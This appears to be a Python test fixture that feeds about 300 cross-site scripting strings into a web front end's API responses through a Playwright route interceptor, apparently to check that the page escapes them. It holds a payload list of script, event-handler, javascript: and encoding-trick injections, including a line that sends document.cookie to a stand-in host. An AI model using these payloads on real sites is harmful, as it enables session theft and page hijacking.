"""Three hundred hostile texts, and a server's answers with them in the place of its own."""

import json
from collections.abc import Sequence
from itertools import product
from typing import Any

from playwright.sync_api import Route

from browser.screens import Server

PAYLOADS = (
    "alert(1)", "confirm`1`", "document.title='x'", "import('data:text/javascript,alert(1)')",
    "fetch('https://example.org/'+document.cookie)", "window.name='x'",
)  # fmt: skip
SHAPES = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script>",
    "<iframe srcdoc='<script>{}</script>'>", "<a href='javascript:{}'>x</a>", "javascript:{}",
    "\"><script>{}</script>", "' onmouseover='{}' x='", "\" autofocus onfocus=\"{}\" x=\"",
    "</textarea><script>{}</script>", "</title><script>{}</script>", "<!--><script>{}</script>-->",
    "<math><mtext><img src=x onerror={}></mtext></math>", "<style>@import'http://x/';{}</style>",
    "<style>*{{background:url(http://x/{})}}</style>", "<link rel=stylesheet href=http://x/{}>",
    "<base href=http://x/><script>{}</script>", "<meta http-equiv=refresh content='0;url={}'>",
    "<object data='data:text/html,<script>{}</script>'>", "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><input type=submit autofocus></form>", "${{{}}}", "{{{{{}}}}}",
    "`-{}-`", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;",
    "%3Cscript%3E{}%3C/script%3E", "<template><script>{}</script></template>",
    "<details open ontoggle={}>", "<video><source onerror={}></video>", "<body onload={}>",
    "<marquee onstart={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>",
    "<keygen autofocus onfocus={}>", "<x onclick={} tabindex=1>",
    "<noscript><p title='</noscript>{}'>",
    "\u202e<script>{}</script>", "\u2028<script>{}</script>", "\x00<script>{}</script>",
    "<scr\x00ipt>{}</scr\x00ipt>", "\U0001f600<img/src/onerror={}>", "<a\u00a0onclick={}>",
    "'-{}-'", "\"-{}-\"", "*/{}/*", "//\n{}\n//", "]]><script>{}</script>",
    "<?xml version='1.0'?><script>{}</script>",
)  # fmt: skip
HOSTILE = [shape.format(payload) for shape, payload in product(SHAPES, PAYLOADS)]
BENIGN = [f"word {i} of a text" for i in range(len(HOSTILE))]
FOREIGN = {"IFRAME", "OBJECT", "EMBED", "SVG", "MATH", "STYLE", "BASE", "VIDEO", "TEMPLATE", "X"}
TAGS = "[...document.querySelectorAll('*')].map((each) => each.tagName)"


def guesses(words: Sequence[str]) -> list[dict[str, Any]]:
    return [{"id": n, "text": word, "piece": word, "p": 1 / 300} for n, word in enumerate(words)]


class Mouth:
    """Stands between server and page, and puts its own words in place of the server's."""

    def __init__(self, server: Server, words: Sequence[str]) -> None:
        self.server, self.words = server, list(words)
        self.acts = {
            "slides/": self.sheets, "toy/": self.sheets, "pooling": self.pooling,
            "causes": self.causes, "models": self.models, "measures": self.measures,
            "alignment": self.alignment,
            "numbers": self.numbers, "row": lambda answer: None, "generations": self.writing,
            "lens": self.lens, "trajectory": self.trajectory, "shuffles": self.shuffle,
            "network": self.network, "guesses": self.guesses, "positions": self.positions,
            "surprisal": lambda answer: None, "spaces": self.space,
            "neurons": lambda answer: None, "product": lambda answer: None,
            "glossary": lambda answer: None, "find": lambda answer: None, "runs": self.run,
        }  # fmt: skip

    def __call__(self, route: Route) -> None:
        path = route.request.url.removeprefix(f"{self.server.url}api/")
        if path.startswith("jobs/"):
            route.fulfill(status=404)
            return
        body = json.loads(route.request.post_data or "null")
        if isinstance(body, dict) and "texts" in body:
            body["texts"] = ["the cat sat", "I sat by the river"]  # as many words each time
        answer = self.server.json(path, body)
        next(act for part, act in self.acts.items() if part in path)(answer)
        route.fulfill(body=json.dumps(answer), content_type="application/json")

    def models(self, answer: dict[str, Any]) -> None:
        kept = answer["models"]
        some = [{**each, "id": f"{each['id']}-{n}"} for n in range(99) for each in kept]
        answer["models"] = (kept + some)[: len(self.words)]
        for each, word in zip(answer["models"], self.words, strict=True):
            samples = [{"text": text, "second": text} for text in self.words[:40]]
            each.update(name=word, family=each["family"], mask=word, note=word)
            each["samples"] = each["samples"][:1] + samples
            each["texts"] = self.words[80:82]

    def run(self, answer: dict[str, Any]) -> None:
        for tokens in answer["tokens"]["queries"].values():
            for token, word in zip(tokens, self.words[::7], strict=False):
                token["text"] = word
        answer["predictions"]["text"] = answer["predictions"]["text"] and self.words[5]
        for place in answer["predictions"]["at"]:
            place["top"] = guesses(self.words)

    def measures(self, answer: dict[str, Any]) -> None:
        for each, word in zip(answer["names"], self.words[::11], strict=False):
            each["title"], each["text"], each["paper"] = word, word, word
        for kinds in answer["types"].values():
            kinds[:] = [[self.words[n + 3] for n, _ in enumerate(row)] for row in kinds]

    def alignment(self, answer: dict[str, Any]) -> None:
        for side in ("source", "target"):
            answer[side] = self.words[20 : 20 + len(answer[side])]

    def writing(self, answer: dict[str, Any]) -> None:
        held = answer["prompt"] + answer["source"] + answer["generated"]
        held += [each for step in answer["steps"] for each in step["top"]]
        held += [] if answer["beams"] is None else answer["beams"]["nodes"]
        held += [] if answer["beams"] is None else answer["beams"]["best"]
        for each, word in zip(held, self.words[3:], strict=False):
            each["text"] = word
        for step in answer["steps"]:
            for rule in step["rules"]:
                rule["name"] = self.words[7]

    def lens(self, answer: dict[str, Any]) -> None:
        self.trajectory(answer)
        answer["words"] = self.words[: len(answer.get("words", []))]
        for top in answer.get("tops", []):
            for each, word in zip(top, self.words, strict=False):
                each["text"] = word

    def trajectory(self, answer: dict[str, Any]) -> None:
        for point, word in zip(answer.get("points", []), self.words[40:], strict=False):
            point["name"] = word

    def network(self, answer: dict[str, Any]) -> None:
        for stack in answer["stacks"]:
            self.trajectory(stack)

    def guesses(self, answer: dict[str, Any]) -> None:
        self.trajectory(answer)
        for row in answer["guesses"]:
            for each, word in zip(row, self.words[60:], strict=False):
                each["text"] = word

    def space(self, answer: dict[str, Any]) -> None:
        self.trajectory(answer)
        for each, word in zip(answer.get("words", []), self.words[70:], strict=False):
            each["word"] = word

    def sheets(self, answer: dict[str, Any]) -> None:
        for n, each in enumerate(answer["sheets"]):
            each["title"], each["text"] = self.words[n], self.words[n + 90]
            each["columns"] = self.words[: len(each["columns"])]
            each["rows"] = [[self.words[i], *row[1:]] for i, row in enumerate(each["rows"])]
        answer["words"] = [self.words[3:9] for _ in answer.get("words", [])]
        answer["conclusion"] = self.words[1]

    def pooling(self, answer: dict[str, Any]) -> None:
        for n, each in enumerate(answer["variants"]):
            each.update(name=self.words[n], formula=self.words[n + 9], summary=self.words[n + 20])
            each["labels"] = guesses(self.words)
            shown = [word for sentence in each["sentences"] for word in sentence["words"]]
            for word, text in zip(shown, self.words[100:], strict=False):
                word["text"] = text
            self.sheets({"sheets": each["walk"]})
        answer["vectors"] = [
            [id, word] for (id, _), word in zip(answer["vectors"], self.words, strict=False)
        ]

    def causes(self, answer: dict[str, Any]) -> None:
        for n, each in enumerate(answer["sheets"]):
            each["title"], each["text"] = self.words[n], self.words[n + 90]
            each["columns"] = self.words[: len(each["columns"])]
            each["rows"] = [[self.words[i], *row[1:]] for i, row in enumerate(each["rows"])]
        answer["conclusion"] = self.words[1]
        for each, word in zip(answer["curves"] + answer["nodes"], self.words[30:], strict=False):
            each["name"] = word
        answer["places"] = self.words[: len(answer["places"])]

    def positions(self, answer: dict[str, Any]) -> None:
        answer["columns"] = self.words[: len(answer["columns"])]

    def shuffle(self, answer: dict[str, Any]) -> None:
        for token, word in zip(answer["after"], self.words[50:], strict=False):
            token["text"] = word
        for says in (answer["predictions"], answer["predictions_after"]):
            for place in says["at"]:
                place["top"] = guesses(self.words)

    def numbers(self, answer: dict[str, Any]) -> None:
        answer["token"] = self.words[9]
        answer["names"] = dict(zip(answer["names"], self.words[30:], strict=False))
        for step, word in zip(answer["steps"], self.words[9:], strict=False):
            step["title"], step["text"] = word, word
            step["formulas"] = [["=", "h", ["call", word, "h"]]]
